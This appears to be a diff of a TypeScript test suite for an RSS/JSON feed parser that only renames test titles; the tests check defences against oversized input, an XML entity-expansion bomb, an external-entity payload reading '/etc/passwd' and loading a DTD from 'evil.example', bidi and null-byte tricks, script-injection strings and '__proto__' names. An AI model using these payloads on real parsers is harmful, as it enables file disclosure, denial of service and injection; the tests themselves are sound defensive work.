@@ -25,7 +25,7 @@ describe('a flood of', () => {
   for (const piece of PIECES) {
     const name = JSON.stringify(piece.slice(0, 12));
 
-    it(`${name} between items costs nothing but itself`, () => {
+    it(`${name} between items does not affect the items`, () => {
       const text = floodOf(piece);
       expect(titles(`<rss><channel>${GOOD}${text}`)[0], 'in RSS').to.equal('Good');
       expect(
@@ -36,7 +36,7 @@ describe('a flood of', () => {
       expect(titles(jsonFeed([{ title: 'Good', url: '/good' }, item]))[0], 'in JSON').to.equal('Good');
     });
 
-    it(`${name} inside an item costs nothing but itself`, () => {
+    it(`${name} inside an item does not affect the others`, () => {
       const text = floodOf(piece);
       for (const element of ['title', 'link', 'guid', 'content:encoded', 'author', 'pubDate', 'dc:language']) {
         expect(titles(rss(`${GOOD}<item><${element}>${text}</${element}></item>`))[0], `as ${element}`).to.equal(
@@ -45,7 +45,7 @@ describe('a flood of', () => {
       }
     });
 
-    it(`${name} is no feed`, () => {
+    it(`${name} is rejected`, () => {
       const text = floodOf(piece);
       for (const body of [text, `<html>${text}`, `{${text}`, `{"items":["${text}`, `{"items":[{"a":${text}`]) {
         expect(() => read(body))
@@ -55,7 +55,7 @@ describe('a flood of', () => {
     });
   }
 
-  it('a title gives a title that fits', () => {
+  it('a title is cut', () => {
     const [article] = read(rss(`<item><title>${floodOf('word ')}</title><link>/a</link></item>`)).articles;
     expect(article!.title.length).to.be.within(900, 1000);
   });
@@ -90,14 +90,14 @@ describe('a document with', () => {
     expect(titles(rss(numbered(100_000, (n) => `<n${n}:a/>`) + GOOD))).to.deep.equal(['Good']);
   });
 
-  it('entities that grow expands none of them', () => {
+  it('entities that grow is not expanded', () => {
     const entities = numbered(20, (n) => `<!ENTITY e${n + 1} "${`&e${n};`.repeat(10)}">`);
     const bomb = `<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY e0 "ha">${entities}]>`;
     const [article] = read(bomb + rss('<item><title>&e20;</title><link>/a</link></item>')).articles;
     expect(article!.title).to.equal('&e20;');
   });
 
-  it('entities of files fetches none of them', () => {
+  it('external entities fetches no file', () => {
     const external =
       '<!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/passwd"><!ENTITY % y SYSTEM "https://evil.example/x.dtd">%y;]>';
     expect(titles(external + rss('<item><title>A &x; b</title><link>/a</link></item>'))).to.deep.equal(['A &x; b']);
@@ -110,7 +110,7 @@ describe('a document with', () => {
     expect(articles.at(-1)!.title).to.equal('T999');
   });
 
-  it('a list of JSON without end is read up to its 20,000th item', () => {
+  it('an endless list of JSON is read up to its 20,000th item', () => {
     const items = Array.from({ length: 20_001 }, (_, n) => ({
       url: `https://a.example/${n}`,
       title: `T${n}`,
@@ -123,19 +123,19 @@ describe('a document with', () => {
     expect(articles).to.have.length(1000);
   });
 
-  it('20,000 items that are alike gives each an id of its own', () => {
+  it('20,000 equal items gets unique ids', () => {
     const { articles } = read(rss('<item><title>T</title><link>/a</link></item>'.repeat(20_000)));
     expect(new Set(articles.map(({ id }) => id)).size).to.equal(1000);
   });
 
-  it('500 items that are alike, behind 500 that took the ids they would get, gives each an id of its own', () => {
+  it('500 equal items after 500 with their numbered ids gets unique ids', () => {
     const url = 'https://paper.example/a';
     const taken = numbered(500, (n) => `<item><title>T</title><link>${url}</link><guid>${url}#${n + 2}</guid></item>`);
     const { articles } = read(rss(taken + `<item><title>T</title><link>${url}</link></item>`.repeat(500)));
     expect(new Set(articles.map(({ id }) => id)).size).to.equal(1000);
   });
 
-  it('999 items without an end tag drops what is none', () => {
+  it('999 items without an end tag drops invalid ones', () => {
     expect(read(rss('<item>'.repeat(999) + GOOD))).to.have.nested.property('articles.length', 1);
   });
 
@@ -150,14 +150,14 @@ describe('a document with', () => {
     JSON: () => jsonFeed(Array(10_000).fill({ title: 'T', url: '/a' }), { authors: Array(10_000).fill({ name: 'A' }) }),
   };
   for (const [dialect, document] of Object.entries(MANY_AUTHORS)) {
-    it(`10,000 authors for each of 10,000 items names some of them (${dialect})`, () => {
+    it(`10,000 authors for each of 10,000 items keeps some of them (${dialect})`, () => {
       const { articles } = read(document());
       expect(articles).to.have.length(1000);
       expect(articles[0]!.authors.length).to.be.within(1, 100);
     });
   }
 
-  it('a base or a language of a megabyte for each of 10,000 items ignores it', () => {
+  it('a base or a language of a megabyte for 10,000 items ignores it', () => {
     const long = floodOf('a');
     for (const attribute of [`xml:base="https://a.example/${long}/"`, `xml:lang="${long}"`]) {
       const { articles } = read(
@@ -175,7 +175,7 @@ describe('a document with', () => {
     );
   });
 
-  it('a link with 100,000 tracking parameters is compared like any other', () => {
+  it('a link with 100,000 tracking parameters is compared in limited time', () => {
     const link = `https://paper.example/a?${numbered(100_000, (n) => `utm_${n}=1&amp;`)}x=1`;
     const { articles } = read(
       rss(`<item><title>A</title><link>${link}</link></item><item><title>B</title><link>/a?x=1</link></item>`),
@@ -187,20 +187,20 @@ describe('a document with', () => {
 describe('text made to deceive', () => {
   const textOf = (text: string) => read(rss(`<item><title>${text}</title><link>/a</link></item>`)).articles[0]!.title;
 
-  it('can turn no text around it', () => {
+  it('can’t reorder the text around it', () => {
     expect(textOf('Pay \u202e001\u202c \u2066now\u2069 &#x202e;x &amp;#8238;y')).to.equal('Pay 001 now x y');
   });
 
-  it('can hold no null bytes', () => {
+  it('can’t contain null bytes', () => {
     expect(textOf('Pay\0 no&#0;w')).to.equal('Pay no\ufffdw');
   });
 
-  it('can give no markup', () => {
+  it('can’t create markup', () => {
     expect(textOf('&lt;img src=x onerror=alert(1)&gt;Text&lt;script&gt;alert(1)&lt;/script&gt;')).to.equal('Text');
   });
 });
 
-describe('names that every object has', () => {
+describe('names of inherited members', () => {
   it('as elements and attributes are just names', () => {
     const names = ['constructor', '__proto__', 'prototype', 'toString', 'hasOwnProperty', 'valueOf'];
     const odd = names
